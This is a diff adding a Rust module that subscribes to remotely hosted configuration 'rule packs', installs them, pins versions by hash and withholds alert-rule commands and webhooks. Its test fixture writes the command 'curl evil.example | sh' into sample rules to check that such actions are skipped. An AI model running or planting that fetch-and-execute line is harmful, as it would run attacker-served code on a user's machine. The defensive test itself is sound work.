@@ -0,0 +1,332 @@
+use crate::alerts::AlertStore;
+use crate::bundle::{BundleError, BundleFormat, ConfigBundle, ImportMode, SkippedAction};
+use crate::dashboards::DashboardStore;
+use crate::integrity::sha256_hex;
+use crate::parsers::library::ProfileLibrary;
+use crate::parsers::schema::OverrideStore;
+use crate::parsers::{load_json, save_json};
+use crate::views::ViewStore;
+use chrono::{SecondsFormat, Utc};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::io;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+use thiserror::Error;
+
+/// File pack subscriptions are persisted to, inside the app config directory
+const PACKS_FILE: &str = "rule_packs.json";
+
+/// Time a pack download may take
+const FETCH_TIMEOUT: Duration = Duration::from_secs(30);
+
+/// Errors that can occur subscribing to or refreshing a rule pack
+#[derive(Debug, Error)]
+pub enum PackError {
+    #[error("Rule pack URLs must start with http:// or https://")]
+    InvalidUrl,
+    #[error("No rule pack named \"{0}\"")]
+    UnknownPack(String),
+    #[error("Rule pack \"{0}\" isn't installed, so there is nothing to pin")]
+    NotInstalled(String),
+    #[error("Failed to download rule pack: {0}")]
+    Fetch(#[from] Box<ureq::Error>),
+    #[error(transparent)]
+    Bundle(#[from] BundleError),
+    #[error(transparent)]
+    Io(#[from] io::Error),
+}
+
+/// Names of the entries a pack installed, so a refresh can take back the ones it dropped
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct PackEntries {
+    #[serde(default)]
+    pub parse_profiles: Vec<String>,
+    #[serde(default)]
+    pub schema_overrides: Vec<String>,
+    #[serde(default)]
+    pub saved_views: Vec<String>,
+    #[serde(default)]
+    pub alert_rules: Vec<String>,
+    /// Dashboard names by scope
+    #[serde(default)]
+    pub dashboards: BTreeMap<String, Vec<String>>,
+}
+
+impl PackEntries {
+    fn of(bundle: &ConfigBundle) -> Self {
+        PackEntries {
+            parse_profiles: bundle
+                .parse_profiles
+                .iter()
+                .map(|p| p.name.clone())
+                .collect(),
+            schema_overrides: bundle.schema_overrides.keys().cloned().collect(),
+            saved_views: bundle.saved_views.iter().map(|v| v.name.clone()).collect(),
+            alert_rules: bundle.alert_rules.iter().map(|r| r.name.clone()).collect(),
+            dashboards: bundle
+                .dashboards
+                .iter()
+                .map(|(scope, list)| {
+                    let names = list.iter().map(|d| d.name.clone()).collect();
+                    (scope.clone(), names)
+                })
+                .collect(),
+        }
+    }
+
+    /// Remove the entries from the stores of a config directory
+    fn remove_from(&self, dir: &Path) -> io::Result<()> {
+        let mut library = ProfileLibrary::load(dir)?;
+        for name in &self.parse_profiles {
+            library.remove(name);
+        }
+        library.save()?;
+        let mut overrides = OverrideStore::load(dir)?;
+        for key in &self.schema_overrides {
+            overrides.set(key.clone(), None);
+        }
+        overrides.save()?;
+        let mut views = ViewStore::load(dir)?;
+        for name in &self.saved_views {
+            views.remove(name);
+        }
+        views.save()?;
+        let mut alerts = AlertStore::load(dir)?;
+        for name in &self.alert_rules {
+            alerts.remove(name);
+        }
+        alerts.save()?;
+        let mut dashboards = DashboardStore::load(dir)?;
+        for (scope, names) in &self.dashboards {
+            for name in names {
+                dashboards.remove(scope, name);
+            }
+        }
+        dashboards.save()
+    }
+}
+
+/// The content of a pack that is installed
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct InstalledPack {
+    /// SHA-256 of the downloaded file, which identifies the pack's version
+    pub sha256: String,
+    /// When it was downloaded, as RFC 3339
+    pub fetched_at: String,
+    pub entries: PackEntries,
+    /// The pack's UI settings, such as highlight rules, for the UI to apply
+    #[serde(default)]
+    pub ui: serde_json::Map<String, serde_json::Value>,
+    /// Webhooks and commands of the pack's alert rules, which are never installed, so
+    /// whoever serves the pack can't make subscribers run anything
+    #[serde(default)]
+    pub skipped_actions: Vec<SkippedAction>,
+}
+
+/// A rule pack followed from a URL, a configuration bundle as `export_config` writes
+/// For a pack kept in git, the URL of the raw file can name a branch to follow or a
+/// commit to stay on
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PackSubscription {
+    pub name: String,
+    pub url: String,
+    /// Hash of the content the pack is pinned to; refreshes that download anything else
+    /// leave the installed version in place
+    #[serde(default)]
+    pub pinned: Option<String>,
+    #[serde(default)]
+    pub installed: Option<InstalledPack>,
+}
+
+/// What refreshing a pack did
+#[derive(Debug, Clone, PartialEq, Serialize)]
+#[serde(tag = "outcome", rename_all = "snake_case")]
+pub enum RefreshOutcome {
+    Installed {
+        sha256: String,
+    },
+    Unchanged,
+    /// The pack is pinned and the URL now serves other content
+    Held {
+        available: String,
+    },
+}
+
+impl PackSubscription {
+    pub fn new(name: String, url: String) -> Result<Self, PackError> {
+        if !(url.starts_with("http://") || url.starts_with("https://")) {
+            return Err(PackError::InvalidUrl);
+        }
+        Ok(PackSubscription {
+            name,
+            url,
+            pinned: None,
+            installed: None,
+        })
+    }
+
+    /// Download the pack
+    pub fn fetch(&self) -> Result<String, PackError> {
+        let response = ureq::get(&self.url)
+            .timeout(FETCH_TIMEOUT)
+            .call()
+            .map_err(Box::new)?;
+        Ok(response.into_string()?)
+    }
+
+    /// Install downloaded content in place of what the pack installed before, unless it's
+    /// the same or the pack is pinned to other content
+    pub fn install(&mut self, dir: &Path, text: &str) -> Result<RefreshOutcome, PackError> {
+        let sha256 = sha256_hex(text.as_bytes());
+        if self.installed.as_ref().is_some_and(|i| i.sha256 == sha256) {
+            return Ok(RefreshOutcome::Unchanged);
+        }
+        if self.pinned.as_ref().is_some_and(|pin| *pin != sha256) {
+            return Ok(RefreshOutcome::Held { available: sha256 });
+        }
+        // Formats are told apart by the extension of the URL's path
+        let path = self.url.split(['?', '#']).next().unwrap_or(&self.url);
+        let bundle = ConfigBundle::parse(text, BundleFormat::from_path(Path::new(path)))?;
+        if let Some(installed) = &self.installed {
+            installed.entries.remove_from(dir)?;
+        }
+        let entries = PackEntries::of(&bundle);
+        let summary = bundle.apply(dir, ImportMode::Merge, false)?;
+        self.installed = Some(InstalledPack {
+            sha256: sha256.clone(),
+            fetched_at: Utc::now().to_rfc3339_opts(SecondsFormat::Millis, true),
+            entries,
+            ui: summary.ui,
+            skipped_actions: summary.skipped_actions,
+        });
+        Ok(RefreshOutcome::Installed { sha256 })
+    }
+
+    /// Remove what the pack installed
+    pub fn uninstall(&mut self, dir: &Path) -> io::Result<()> {
+        if let Some(installed) = self.installed.take() {
+            installed.entries.remove_from(dir)?;
+        }
+        Ok(())
+    }
+}
+
+/// Pack subscriptions persisted as JSON
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct PackStore {
+    #[serde(skip)]
+    path: PathBuf,
+    #[serde(default)]
+    packs: Vec<PackSubscription>,
+}
+
+impl PackStore {
+    /// Load the subscriptions from a config directory; a missing file has none
+    pub fn load(dir: &Path) -> io::Result<Self> {
+        let path = dir.join(PACKS_FILE);
+        let mut store: PackStore = load_json(&path)?;
+        store.path = path;
+        Ok(store)
+    }
+
+    pub fn save(&self) -> io::Result<()> {
+        save_json(&self.path, self)
+    }
+
+    pub fn packs(&self) -> &[PackSubscription] {
+        &self.packs
+    }
+
+    pub fn packs_mut(&mut self) -> &mut [PackSubscription] {
+        &mut self.packs
+    }
+
+    pub fn find_mut(&mut self, name: &str) -> Result<&mut PackSubscription, PackError> {
+        self.packs
+            .iter_mut()
+            .find(|p| p.name == name)
+            .ok_or_else(|| PackError::UnknownPack(name.to_string()))
+    }
+
+    /// Add a subscription, or replace the one with the same name
+    pub fn upsert(&mut self, pack: PackSubscription) {
+        match self.packs.iter_mut().find(|p| p.name == pack.name) {
+            Some(existing) => *existing = pack,
+            None => self.packs.push(pack),
+        }
+    }
+
+    /// Remove a subscription, returning it
+    pub fn remove(&mut self, name: &str) -> Option<PackSubscription> {
+        let index = self.packs.iter().position(|p| p.name == name)?;
+        Some(self.packs.remove(index))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn pack(rules: &[&str]) -> String {
+        let rules: Vec<_> = rules
+            .iter()
+            .map(|name| {
+                json!({
+                    "name": name,
+                    "condition": {"kind": "stalled", "seconds": 60},
+                    "actions": [{"kind": "command", "command": "curl evil.example | sh"}]
+                })
+            })
+            .collect();
+        json!({"version": 1, "alert_rules": rules, "ui": {"highlights": []}}).to_string()
+    }
+
+    fn rule_names(dir: &Path) -> Vec<String> {
+        let store = AlertStore::load(dir).unwrap();
+        store.rules().iter().map(|r| r.name.clone()).collect()
+    }
+
+    #[test]
+    fn test_refresh_replaces_what_the_pack_installed() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut sub = PackSubscription::new(
+            "ops".to_string(),
+            "https://example.com/ops.json".to_string(),
+        )
+        .unwrap();
+        let first = pack(&["disk", "quiet"]);
+        assert!(matches!(
+            sub.install(dir.path(), &first).unwrap(),
+            RefreshOutcome::Installed { .. }
+        ));
+        assert_eq!(
+            sub.install(dir.path(), &first).unwrap(),
+            RefreshOutcome::Unchanged
+        );
+        // Rules come without their actions
+        let store = AlertStore::load(dir.path()).unwrap();
+        assert!(store.rules().iter().all(|r| r.actions.is_empty()));
+        assert_eq!(sub.installed.as_ref().unwrap().skipped_actions.len(), 2);
+
+        // A rule dropped from the pack is taken back
+        let second = pack(&["disk"]);
+        sub.install(dir.path(), &second).unwrap();
+        assert_eq!(rule_names(dir.path()), vec!["disk"]);
+
+        // Pinned to the installed version, newer content is held back
+        sub.pinned = sub.installed.as_ref().map(|i| i.sha256.clone());
+        let third = pack(&["disk", "cpu"]);
+        assert_eq!(
+            sub.install(dir.path(), &third).unwrap(),
+            RefreshOutcome::Held {
+                available: sha256_hex(third.as_bytes())
+            }
+        );
+        assert_eq!(rule_names(dir.path()), vec!["disk"]);
+
+        sub.uninstall(dir.path()).unwrap();
+        assert!(rule_names(dir.path()).is_empty());
+    }
+}